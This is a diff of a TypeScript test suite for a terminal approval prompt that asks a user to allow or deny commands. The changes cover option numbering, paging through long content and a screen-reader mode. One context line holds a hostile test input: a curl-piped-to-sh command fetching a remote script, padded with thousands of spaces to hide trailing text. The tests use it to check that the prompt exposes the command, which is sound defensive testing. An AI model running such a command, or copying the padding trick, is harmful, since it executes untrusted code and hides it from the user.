@@ -23,7 +23,7 @@ describe('an approval in a terminal of 80 columns and 24 rows', () => {
     expect(drawn).toMatch(/│ Run this command\?\n│ │ curl https:\/\/x\.example\/i\.sh \| sh; : <2401 spaces>/)
     for (const line of drawn.split('\n').filter((each) => /npm test"|Permission for/.test(each)))
       expect(line).toMatch(/^│ /)
-    await seeing('Deny', '3')
+    await seeing('Deny', '2')
     await seeing(/● Deny/, enter)
     expect(await selected()).toBe(deny.value)
   })
@@ -48,7 +48,7 @@ describe('an approval in a terminal of 80 columns and 24 rows', () => {
     await seeing('Nothing is marked yet')
     press('1')
     await seeing(/❯ 1\. ● Allow once/, '2')
-    await seeing(/❯ 2\. ● Allow for this session/, '1')
+    await seeing(/❯ 2\. ● Deny/, '1')
     await seeing(/❯ 1\. ● Allow once[\s\S]*Enter send/, enter)
     expect(await selected()).toBe(allowOnce.value)
   })
@@ -62,43 +62,33 @@ describe('an approval in a terminal of 80 columns and 24 rows', () => {
     press(down, enter)
     await seeing(/There is more to read[\s\S]*Space more lines/)
     const seen = new Set<string>()
-    const collect = async (): Promise<boolean> => {
+    // The count stands below the lines: once it is another, they are drawn.
+    const collect = async (): Promise<string | undefined> => {
       const drawn = await view()
       for (const [, step = ''] of drawn.matchAll(/^│ .*│ step (\d+)$/gm)) seen.add(step)
-      return drawn.includes('Nothing can be allowed')
+      return /… (\d+) lines? more/.exec(drawn)?.[1]
     }
-    for (let isMore = await collect(); isMore; isMore = await collect()) {
-      const before = seen.size
+    for (let left = await collect(); left !== undefined; left = await collect()) {
       press(' ')
-      await expect.poll(async () => [await collect(), seen.size > before][1]).toBe(true)
+      await expect.poll(collect).not.toBe(left)
     }
     expect(seen.size).toBe(40)
-    press('2')
-    await seeing(/● Allow for this session/, enter)
-    expect(await selected()).toBe(allowSession.value)
+    press('1')
+    await seeing(/● Allow once/, enter)
+    expect(await selected()).toBe(allowOnce.value)
   })
 
   it('can be denied at once', async () => {
     const { seeing, selected } = await asking('x\n'.repeat(100))
-    await seeing('Ctrl-C', '3')
+    await seeing('Ctrl-C', '2')
     await seeing('● Deny', enter)
     expect(await selected()).toBe(deny.value)
   })
 
   it('shows the whole scope of a session, before anything is allowed', async () => {
     const scope = `${'Edit(/src/a/**), '.repeat(20)}Bash(*)`
-    const { seeing, view, press, selected } = await asking('npm test', { scope })
-    await seeing('Ctrl-C')
-    await expect.poll(view).toMatch(/Nothing can be allowed/)
-    for (let isSeen = false; !isSeen; ) {
-      press(' ')
-      isSeen = await expect
-        .poll(view)
-        .toMatch(/./)
-        .then(async () => /│ .*Bash\(\*\)/.test(await view()))
-    }
-    press('2')
-    await seeing('● Allow for this session', enter)
+    const { seeing, selected } = await asking('npm test', { scope, options: ['--screen-reader'] })
+    await seeing(/Bash\(\*\)[\s\S]*\n>$/, `2${enter}`)
     expect(await selected()).toBe(allowSession.value)
   })
 
@@ -111,7 +101,7 @@ describe('an approval in a terminal of 80 columns and 24 rows', () => {
     await seeing(/Nothing can be allowed/)
     press('1')
     await seeing('There is more to read before')
-    press('3')
+    press('2')
     await seeing('● Deny', enter)
     expect(await selected()).toBe(deny.value)
   })
